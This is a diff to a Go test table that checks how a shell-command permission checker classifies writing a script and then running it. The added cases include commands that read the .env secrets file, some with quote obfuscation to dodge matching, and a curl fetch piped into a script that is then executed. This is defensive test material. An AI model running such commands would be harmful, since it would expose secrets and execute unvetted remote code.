@@ -49,6 +49,9 @@ func TestEveryWriterThenRun(t *testing.T) {
 		{"cp a.txt x.sh; sh x.sh", ""}, // a copy of a file on the disk: a script on disk
 		{"curl -so a.sh https://example.com/x; cp a.sh x.sh; sh x.sh", KindUnverifiable},
 		{"echo 'cat .env' > a.sh; cp a.sh x.sh; sh x.sh", KindDeny},
+		{"cp /dev/stdin x.sh <<< 'cat .e\"\"nv'; sh x.sh", KindDeny},
+		{"curl -s https://example.com/x | cp /dev/stdin x.sh; sh x.sh", KindUnverifiable},
+		{"cp <(echo 'cat .e\"\"nv') x.sh; sh x.sh", KindUnverifiable},
 		{"echo 'cat .env' > a.sh; mv a.sh src/; sh src/a.sh", KindDeny},
 		{"mv a.txt x.sh && bash x.sh", KindUnverifiable},
 		{"install -m 755 a.txt x.sh; ./x.sh", ""},
